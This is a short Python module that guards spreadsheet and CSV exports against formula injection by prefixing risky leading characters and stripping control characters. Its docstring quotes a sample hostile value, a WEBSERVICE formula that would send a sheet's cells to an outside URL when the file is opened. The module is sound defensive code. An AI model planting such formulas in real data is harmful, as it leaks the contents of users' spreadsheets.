"""What every spreadsheet and CSV this app writes does to a value before it becomes a cell.

Excel, WPS and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
CSV, one starting with a tab or carriage return) as a formula: an organisation named
``=WEBSERVICE("http://…"&C7)`` would send the sheet's cells out when a member of staff opens
the export. Such text gets a leading apostrophe, shown by none of them. Control characters
are dropped: they are illegal in XLSX XML (openpyxl refuses the whole file) and mean nothing
in a CSV.
"""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def safe_cell(value):
    """``value`` made safe to write as a spreadsheet cell; numbers and None pass through."""
    if not isinstance(value, str):
        return value
    if value[:1] in FORMULA_STARTS:
        value = "'" + value
    return _CONTROL.sub("", value)
